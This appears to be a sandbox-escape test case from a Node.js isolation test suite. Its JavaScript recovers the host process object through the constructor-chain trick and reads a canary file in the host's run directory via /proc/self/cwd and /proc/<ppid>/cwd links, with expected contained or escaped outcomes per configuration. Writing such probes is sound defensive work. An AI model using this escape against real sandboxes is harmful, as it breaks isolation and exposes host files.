/*---
id: fs-proc-cwd
title: Find canary.txt through /proc/self/cwd and the parent's /proc/<ppid>/cwd
category: fs
goal: Locate the host's working directory (the run directory) without being told, through procfs magic links, and read canary.txt there.
technique: /proc/self/cwd and /proc/<ppid>/cwd are links to the current directories of this process and its parent (for a child guest, the host, whose cwd is the run directory); reading through them needs no knowledge of the path.
references: https://man7.org/linux/man-pages/man5/proc_pid_cwd.5.html, https://nodejs.org/api/process.html#processppid
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  for (const p of ['/proc/self/cwd/canary.txt', '/proc/self/cwd/../canary.txt', `/proc/${P.ppid}/cwd/canary.txt`]) {
    let where = '';
    try {
      where = fs.readlinkSync(p.replace(/\/(\.\.\/)?canary\.txt$/, ''));
    } catch (e) {
      where = e.code;
    }
    try {
      results[p] = `${where}: ${fs.readFileSync(p, 'utf8').trim()}`;
    } catch (e) {
      results[p] = `${where}: ${e.code || e.message}`;
    }
  }
}
console.log('procfs reads:', P ? JSON.stringify(results) : 'no process object');
results;
